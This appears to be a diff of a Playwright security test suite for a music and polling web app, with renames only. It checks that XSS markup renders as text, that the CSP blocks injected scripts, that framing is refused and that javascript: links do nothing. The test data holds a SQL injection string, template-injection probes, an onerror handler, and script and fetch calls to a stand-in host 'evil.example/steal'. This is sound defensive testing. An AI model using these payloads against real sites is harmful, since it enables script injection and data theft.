@@ -12,9 +12,9 @@ const HOSTILE = [
   `'; DROP TABLE users;--`,
   '{{7*7}} <%= 7*7 %>',
 ]
-const isHacked = (page: Page) => page.evaluate(() => 'hacked' in window)
+const hasRunScript = (page: Page) => page.evaluate(() => 'hacked' in window)
 
-/** Changes the server's response to a read. */
+/** Changes the server's response to a GET request. */
 const changeResponse = (page: Page, path: string, change: (response: never) => unknown) =>
   page.route(path, async (route) => {
     const response = (await (await route.fetch()).json()) as never
@@ -27,17 +27,17 @@ test('renders hostile markup as text', { tag: '@desktop' }, async ({ page }) => 
       ...poll,
       title: HOSTILE[0],
       description: HOSTILE[1],
-      options: HOSTILE.map((title, at) => ({ id: `o${at}`, title, voteCount: null })),
+      options: HOSTILE.map((title, index) => ({ id: `o${index}`, title, voteCount: null })),
     },
   ])
   await changeResponse(page, '/api/tracks', (tracks: object[]) =>
-    tracks.map((track, at) => ({ ...track, title: HOSTILE[at % 5], artist: HOSTILE[0], album: HOSTILE[1] })),
+    tracks.map((track, index) => ({ ...track, title: HOSTILE[index % 5], artist: HOSTILE[0], album: HOSTILE[1] })),
   )
   await changeResponse(page, '/api/concerts/upcoming', (shows: object[]) =>
-    shows.map((show, at) => ({ ...show, venue: HOSTILE[at % 5], city: HOSTILE[2], address: HOSTILE[0] })),
+    shows.map((show, index) => ({ ...show, venue: HOSTILE[index % 5], city: HOSTILE[2], address: HOSTILE[0] })),
   )
   await changeResponse(page, '/api/leaderboard', () => ({
-    entries: HOSTILE.map((username, at) => ({ rank: at + 1, username, points: 5 })),
+    entries: HOSTILE.map((username, index) => ({ rank: index + 1, username, points: 5 })),
     me: null,
   }))
   await openFullPage(page)
@@ -51,7 +51,7 @@ test('renders hostile markup as text', { tag: '@desktop' }, async ({ page }) => 
   await page.getByRole('article', { name: 'NEXT SHOW' }).scrollIntoViewIfNeeded()
   await page.getByRole('grid').getByRole('button', { name: HOSTILE[0] }).first().click()
   await expect(page.getByRole('dialog')).toContainText('<img src=x')
-  expect(await isHacked(page)).toBe(false)
+  expect(await hasRunScript(page)).toBe(false)
 })
 
 test('the CSP blocks injected script', { tag: '@desktop' }, async ({ page, expectConsoleError }) => {
@@ -65,8 +65,8 @@ test('the CSP blocks injected script', { tag: '@desktop' }, async ({ page, expec
     )
     const inline = document.createElement('script')
     inline.textContent = 'hacked = 1'
-    const foreign = document.createElement('script')
-    foreign.src = 'https://evil.example/steal.js'
+    const external = document.createElement('script')
+    external.src = 'https://evil.example/steal.js'
     const handler = document.createElement('div')
     handler.innerHTML = '<img src="data:," onerror="hacked = 1">'
     const style = document.createElement('style')
@@ -75,7 +75,7 @@ test('the CSP blocks injected script', { tag: '@desktop' }, async ({ page, expec
     frame.src = 'https://evil.example/'
     const base = document.createElement('base')
     base.href = 'https://evil.example/'
-    for (const element of [inline, foreign, handler, style, frame, base]) document.body.appendChild(element)
+    for (const element of [inline, external, handler, style, frame, base]) document.body.appendChild(element)
     await fetch('https://evil.example/steal').catch(() => {})
   })
   const violations = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations.sort())
@@ -90,7 +90,7 @@ test('the CSP blocks injected script', { tag: '@desktop' }, async ({ page, expec
       'script-src-elem inline',
       'style-src-elem inline',
     ])
-  expect(await isHacked(page)).toBe(false)
+  expect(await hasRunScript(page)).toBe(false)
   await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
 })
 
@@ -98,13 +98,13 @@ test('rejects being framed by another site', {
   tag: '@desktop',
 }, async ({ page, baseURL, expectConsoleError }) => {
   expectConsoleError(/frame-ancestors/)
-  const framing = createServer((_, response) =>
+  const framingSite = createServer((_, response) =>
     response.setHeader('content-type', 'text/html').end(`<!doctype html><title>Evil</title><iframe src="${baseURL}/">`),
   ).listen(0, 'localhost')
-  await once(framing, 'listening')
-  await page.goto(`http://localhost:${(framing.address() as AddressInfo).port}/`)
+  await once(framingSite, 'listening')
+  await page.goto(`http://localhost:${(framingSite.address() as AddressInfo).port}/`)
   await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
-  framing.close()
+  framingSite.close()
 })
 
 test('a javascript: link does nothing', { tag: '@desktop' }, async ({ page, expectConsoleError }) => {
@@ -115,9 +115,9 @@ test('a javascript: link does nothing', { tag: '@desktop' }, async ({ page, expe
   })
   await open(page)
   const opened: Page[] = []
-  page.context().on('page', (other) => opened.push(other))
+  page.context().on('page', (tab) => opened.push(tab))
   await page.getByRole('contentinfo').getByRole('link', { name: 'Contact' }).click()
   await page.getByRole('link', { name: 'Join broadcast' }).click()
   await expect(page.getByRole('heading', { level: 1 })).toHaveCount(1)
-  for (const tab of [page, ...opened]) expect(await isHacked(tab)).toBe(false)
+  for (const tab of [page, ...opened]) expect(await hasRunScript(tab)).toBe(false)
 })
